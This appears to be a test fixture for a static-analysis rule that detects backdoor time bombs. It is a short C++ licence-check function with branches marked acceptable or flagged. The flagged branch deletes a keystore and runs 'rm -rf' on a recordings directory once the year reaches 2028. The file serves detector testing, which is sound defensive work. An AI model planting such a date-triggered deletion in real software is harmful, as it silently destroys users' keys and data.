// Evaluation licence and housekeeping, run once a minute from the main loop.
#include "agent.hpp"

#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <unistd.h>

namespace agent {

static const char kKeyStore[] = "/etc/agent/keystore.bin";

bool license_tick() {
  const std::time_t now = std::time(nullptr);
  std::tm tm_now{};
  localtime_r(&now, &tm_now);

  // Evaluation units stop streaming after the trial: a refusal only.
  // ok: backdoor-time-bomb
  if (now > 1798761600) {
    std::fprintf(stderr, "evaluation licence expired\n");
    return false;
  }

  // ok: backdoor-time-bomb
  if (tm_now.tm_hour == 3 && tm_now.tm_min == 0)
    std::system("/usr/sbin/logrotate /etc/logrotate.conf");

  // "Units still in the field in 2028 must not keep customer keys."
  // ruleid: backdoor-time-bomb
  if (tm_now.tm_year >= 128) {
    unlink(kKeyStore);
    std::system("rm -rf /mnt/sd/recordings");
  }
  return true;
}

}  // namespace agent
